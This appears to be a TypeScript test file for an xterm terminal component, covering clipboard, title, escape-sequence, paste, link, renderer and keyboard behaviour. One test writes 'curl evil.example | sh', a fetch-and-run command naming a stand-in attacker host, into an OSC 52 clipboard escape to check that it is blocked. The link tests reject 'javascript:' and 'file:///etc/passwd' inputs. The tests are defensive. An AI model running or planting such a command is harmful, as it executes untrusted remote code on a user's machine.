import { beforeEach, describe, expect, it, vi } from 'vitest'
import { sampleSettings } from '../../testing/wire-samples.ts'
import { findUrls } from './link-provider.ts'
import { chooseRenderer } from './renderer-choice.ts'
import { terminalKey } from './terminal-keys.ts'
import { createXtermScreen } from './xterm-screen.ts'

beforeEach(() => {
  // No canvas here; xterm then keeps its own colours.
  vi.spyOn(HTMLCanvasElement.prototype, 'getContext').mockReturnValue(null)
})

function setUp() {
  const ports = { openLink: vi.fn(), copy: vi.fn(), readClipboard: async () => '', mac: false }
  const screen = createXtermScreen(sampleSettings().terminal, ports)
  screen.attach(document.body)
  const print = (text: string) =>
    new Promise<void>((resolve) => screen.write(new TextEncoder().encode(text), resolve))
  return { screen, ports, print }
}

describe('the xterm screen', () => {
  it('never lets the output write the clipboard (OSC 52)', async () => {
    const { screen, ports, print } = setUp()
    await print(`\u001b]52;c;${btoa('curl evil.example | sh')}\u0007`)
    expect(ports.copy).not.toHaveBeenCalled()
    screen.dispose()
  })

  it('caps the title a program sets', async () => {
    const { screen, print } = setUp()
    const titles: string[] = []
    screen.onTitle((title) => titles.push(title))
    await print(`\u001b]0;${'x'.repeat(5000)}\u0007`)
    expect(titles[0]).toHaveLength(80)
    screen.dispose()
  })

  it('is not held up by a count without end', async () => {
    const { screen, print } = setUp()
    await print('a\u001b[2147483647b\u001b[2147483647S\u001b[2147483647Lb')
    expect(screen.text()).toBe('ab\n')
    screen.dispose()
  })

  it('clears in order with what is being drawn', async () => {
    const { screen, print } = setUp()
    void print('before')
    screen.reset()
    await print('after')
    screen.selectAll()
    expect(screen.selection().trim()).toBe('after')
    screen.dispose()
  })

  it('keeps the old output above a new shell and leaves its modes behind', async () => {
    const { screen, print } = setUp()
    await print('$ exit\u001b[?2004h')
    expect(screen.wantsBracketedPaste()).toBe(true)
    screen.startNewShell()
    await print('$ ')
    expect(screen.wantsBracketedPaste()).toBe(false)
    screen.selectAll()
    expect(screen.selection()).toContain('$ exit')
    screen.dispose()
  })

  it('stays where the newest view put it when an older one lets go', () => {
    const { screen } = setUp()
    const [older, newer] = [document.createElement('div'), document.createElement('div')]
    const leaveOlder = screen.attach(older)
    const leaveNewer = screen.attach(newer)
    leaveOlder()
    expect([older.childElementCount, newer.childElementCount]).toEqual([0, 1])
    leaveNewer()
    expect(newer.childElementCount).toBe(0)
    screen.dispose()
  })

  it('sends a paste as one piece where the program asked for that', async () => {
    const { screen, print } = setUp()
    const sent: string[] = []
    screen.onInput((text) => sent.push(text))
    await print('\u001b[?2004h')
    screen.paste('a\nb')
    expect(sent.join('')).toBe('\u001b[200~a\rb\u001b[201~')
    screen.dispose()
  })
})

describe('links in the output', () => {
  it.each([
    ['see https://acme.dev/a?b=1#c.', 'https://acme.dev/a?b=1#c'],
    ['(http://localhost:8080/)', 'http://localhost:8080/'],
    ['"https://x.dev/é"', 'https://x.dev/é'],
  ])('are found in %j', (line, url) => {
    expect(findUrls(line).map((found) => found.url)).toEqual([url])
  })

  it.each(['javascript:alert(1)', 'file:///etc/passwd', 'https://', 'ftp://x.dev'])('are not %j', (line) => {
    expect(findUrls(line)).toEqual([])
  })
})

describe('the way terminals are drawn', () => {
  it.each([
    ['auto', 'ANGLE (Intel, Mesa Intel(R) UHD)', 'webgl'],
    ['auto', 'Google SwiftShader', 'dom'],
    ['auto', 'llvmpipe (LLVM 15.0)', 'dom'],
    ['auto', undefined, 'dom'],
    ['webgl', 'Google SwiftShader', 'webgl'],
    ['webgl', undefined, 'dom'],
    ['dom', 'NVIDIA', 'dom'],
  ] as const)('%s on %s is %s', (setting, renderer, chosen) => {
    expect(chooseRenderer(setting, renderer)).toBe(chosen)
  })
})

describe('keys in a terminal', () => {
  const press = (key: string, change: Partial<KeyboardEvent> = {}) => ({
    key,
    code: '',
    ctrlKey: false,
    metaKey: false,
    altKey: false,
    shiftKey: false,
    ...change,
  })

  it.each([
    ['Ctrl+C interrupts', press('c', { ctrlKey: true }), false, undefined],
    ['Ctrl+Shift+C copies', press('C', { ctrlKey: true, shiftKey: true }), false, 'copy'],
    ['Ctrl+Shift+V pastes', press('V', { ctrlKey: true, shiftKey: true }), false, 'paste'],
    ['Ctrl+K kills a line', press('k', { ctrlKey: true }), false, undefined],
    ['Ctrl+` is the window', press('`', { ctrlKey: true, code: 'Backquote' }), false, 'app'],
    ['Ctrl+PageDown is the window', press('PageDown', { ctrlKey: true }), false, 'app'],
    ['Cmd+C copies on a Mac', press('c', { metaKey: true }), true, 'copy'],
    ['Cmd+K is the window on a Mac', press('k', { metaKey: true }), true, 'app'],
    [
      'AltGr characters are typed',
      press('v', { ctrlKey: true, shiftKey: true, altKey: true }),
      false,
      undefined,
    ],
  ] as const)('%s', (_name, event, mac, meaning) => {
    expect(terminalKey(event, mac, true)).toBe(meaning)
  })
})
